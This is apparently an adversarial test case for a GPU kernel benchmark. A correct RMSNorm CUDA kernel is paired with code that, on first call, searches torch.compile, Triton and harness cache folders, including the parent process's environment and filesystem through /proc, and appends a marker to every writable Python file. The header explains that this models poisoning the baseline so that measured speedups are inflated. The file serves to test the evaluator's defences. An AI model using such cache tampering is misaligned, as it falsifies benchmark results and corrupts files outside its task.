// ADVERSARIAL CASE poison_compile_cache (task rmsnorm) -- expected: ANY (check: compile_cache_unchanged)
//
// The cheat: slowing the judge's yardstick. The kernel is the plain, correct one of
// kernels/examples/rmsnorm.cu. On its first call the entry point looks for the compiled code that
// torch.compile and Triton keep between processes (Inductor's default folder is /tmp/torchinductor_<user>,
// shared by every process of the user, the baseline process included) and appends a marker to every
// generated Python file it can write: a real attacker would put a slower kernel there, and a baseline
// process started later would load it, so every speedup over the torch.compile baseline would grow.
// It searches $TMPDIR/torchinductor_* (/tmp without TMPDIR), $TORCHINDUCTOR_CACHE_DIR, $TRITON_CACHE_DIR, $HOME/.triton, and
// the harness's cache (PTXBENCH_CACHE, XDG_CACHE_HOME or HOME read from its parent's /proc environ, then
// <cache>/compile), each also through its parent's view of the file system (/proc/<ppid>/root).
//
// How the evaluator must catch it: the baseline process compiles into the harness's cache
// (<cache>/compile), which candidate processes see read-only, and a candidate's process compiles into its
// private directory; so no file under <cache>/compile carries the marker after the run. This item's own
// status is the evaluator's decision.
#include <cstdint>
#include <cuda_runtime.h>
#include <cuda_bf16.h>
#include <cuda_fp8.h>

namespace {

constexpr int THREADS = 256;
constexpr float EPS = 1e-6f;

// Sum of `v` over the block; every thread gets the result.
__device__ __forceinline__ float block_sum(float v) {
    __shared__ float partial[THREADS / 32];
    for (int off = 16; off > 0; off >>= 1) v += __shfl_xor_sync(0xffffffffu, v, off);
    if (threadIdx.x % 32 == 0) partial[threadIdx.x / 32] = v;
    __syncthreads();
    float total = 0.0f;
#pragma unroll
    for (int w = 0; w < THREADS / 32; ++w) total += partial[w];
    return total;
}

__global__ void __launch_bounds__(THREADS)
rmsnorm_kernel(const __nv_bfloat16* __restrict__ X, const __nv_bfloat16* __restrict__ W,
               __nv_bfloat16* __restrict__ Y, int64_t Hd) {
    const int64_t row = blockIdx.x;
    const uint4* x = reinterpret_cast<const uint4*>(X + row * Hd);  // Hd % 64 == 0: 16-byte aligned rows
    const uint4* w = reinterpret_cast<const uint4*>(W);
    uint4* y = reinterpret_cast<uint4*>(Y + row * Hd);
    const int64_t chunks = Hd / 8;

    float sum_sq = 0.0f;
    for (int64_t c = threadIdx.x; c < chunks; c += THREADS) {
        const uint4 raw = x[c];
        const __nv_bfloat162* pairs = reinterpret_cast<const __nv_bfloat162*>(&raw);
#pragma unroll
        for (int e = 0; e < 4; ++e) {
            const float2 f = __bfloat1622float2(pairs[e]);
            sum_sq = fmaf(f.x, f.x, sum_sq);
            sum_sq = fmaf(f.y, f.y, sum_sq);
        }
    }
    const float inv_rms = rsqrtf(block_sum(sum_sq) / float(Hd) + EPS);

    for (int64_t c = threadIdx.x; c < chunks; c += THREADS) {
        const uint4 xr = x[c];
        const uint4 wr = w[c];
        const __nv_bfloat162* xp = reinterpret_cast<const __nv_bfloat162*>(&xr);
        const __nv_bfloat162* wp = reinterpret_cast<const __nv_bfloat162*>(&wr);
        uint4 out;
        __nv_bfloat162* op = reinterpret_cast<__nv_bfloat162*>(&out);
#pragma unroll
        for (int e = 0; e < 4; ++e) {
            const float2 xf = __bfloat1622float2(xp[e]);
            const float2 wf = __bfloat1622float2(wp[e]);
            op[e] = __floats2bfloat162_rn(xf.x * inv_rms * wf.x, xf.y * inv_rms * wf.y);
        }
        y[c] = out;
    }
}

}  // namespace

#include <cstdio>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <set>
#include <string>
#include <sys/stat.h>
#include <unistd.h>

namespace {

constexpr const char* kMarker = "\n# POISONED-BY-CANDIDATE (poison_compile_cache.cu)\n";
constexpr int kMaxDepth = 8;
constexpr int kMaxEntries = 50000;

bool ends_with(const std::string& text, const std::string& tail) {
    return text.size() >= tail.size() && text.compare(text.size() - tail.size(), tail.size(), tail) == 0;
}

// Appends the marker to every .py file under `folder` it can open for writing; returns how many.
int poison(const std::string& folder, int depth, int& budget) {
    if (depth > kMaxDepth || budget <= 0) return 0;
    DIR* dir = opendir(folder.c_str());
    if (!dir) return 0;
    int marked = 0;
    while (dirent* entry = readdir(dir)) {
        if (--budget <= 0) break;
        const std::string name = entry->d_name;
        if (name == "." || name == "..") continue;
        const std::string path = folder + "/" + name;
        struct stat info;
        if (lstat(path.c_str(), &info) != 0) continue;
        if (S_ISDIR(info.st_mode)) {
            marked += poison(path, depth + 1, budget);
        } else if (S_ISREG(info.st_mode) && ends_with(name, ".py")) {
            const int fd = open(path.c_str(), O_WRONLY | O_APPEND | O_NOFOLLOW);
            if (fd < 0) continue;
            if (write(fd, kMarker, strlen(kMarker)) == (ssize_t)strlen(kMarker)) ++marked;
            close(fd);
        }
    }
    closedir(dir);
    return marked;
}

// NAME's value in a NUL-separated environ file, or "".
std::string environ_value(const std::string& file, const std::string& name) {
    FILE* f = fopen(file.c_str(), "r");
    if (!f) return "";
    std::string all;
    char chunk[4096];
    size_t n;
    while ((n = fread(chunk, 1, sizeof chunk, f)) > 0) all.append(chunk, n);
    fclose(f);
    const std::string key = name + "=";
    size_t start = 0;
    while (start < all.size()) {
        const size_t end = all.find('\0', start);
        const std::string entry = all.substr(start, end == std::string::npos ? std::string::npos : end - start);
        if (entry.compare(0, key.size(), key) == 0) return entry.substr(key.size());
        if (end == std::string::npos) break;
        start = end + 1;
    }
    return "";
}

std::set<std::string> cache_folders() {
    std::set<std::string> folders;
    const char* tmpdir = getenv("TMPDIR");
    const std::string scratch = tmpdir && *tmpdir ? tmpdir : "/tmp";  // where Inductor's default folder lies
    if (DIR* tmp = opendir(scratch.c_str())) {
        while (dirent* entry = readdir(tmp)) {
            const std::string name = entry->d_name;
            if (name.rfind("torchinductor_", 0) == 0) folders.insert(scratch + "/" + name);
        }
        closedir(tmp);
    }
    for (const char* variable : {"TORCHINDUCTOR_CACHE_DIR", "TRITON_CACHE_DIR"}) {
        if (const char* value = getenv(variable)) folders.insert(value);
    }
    if (const char* home = getenv("HOME")) folders.insert(std::string(home) + "/.triton");
    const std::string parent_environ = "/proc/" + std::to_string(getppid()) + "/environ";
    const std::string cache = environ_value(parent_environ, "PTXBENCH_CACHE");
    const std::string xdg = environ_value(parent_environ, "XDG_CACHE_HOME");
    const std::string home = environ_value(parent_environ, "HOME");
    if (!cache.empty()) folders.insert(cache + "/compile");
    if (!xdg.empty()) folders.insert(xdg + "/ptxbench/compile");
    if (!home.empty()) {
        folders.insert(home + "/.cache/ptxbench/compile");
        folders.insert(home + "/.triton");
    }
    for (const char* variable : {"TORCHINDUCTOR_CACHE_DIR", "TRITON_CACHE_DIR"}) {
        const std::string value = environ_value(parent_environ, variable);
        if (!value.empty()) folders.insert(value);
    }
    return folders;
}

int poison_once() {
    static int poisoned = -1;
    if (poisoned >= 0) return poisoned;
    poisoned = 0;
    int budget = kMaxEntries;
    const std::string parent_root = "/proc/" + std::to_string(getppid()) + "/root";
    for (const std::string& folder : cache_folders()) {
        for (const std::string& prefix : {std::string(), parent_root}) poisoned += poison(prefix + folder, 0, budget);
    }
    fprintf(stderr, "poison_compile_cache: marked %d file(s)\n", poisoned);
    return poisoned;
}

}  // namespace

extern "C" int rmsnorm(const __nv_bfloat16* __restrict__ X, const __nv_bfloat16* __restrict__ W,
                       __nv_bfloat16* __restrict__ Y, int64_t T, int64_t Hd, cudaStream_t stream) {
    poison_once();
    if (T <= 0 || Hd <= 0) return (int)cudaGetLastError();
    if (Hd % 8 != 0) return (int)cudaErrorInvalidValue;
    rmsnorm_kernel<<<(unsigned)T, THREADS, 0, stream>>>(X, W, Y, Hd);
    return (int)cudaGetLastError();
}
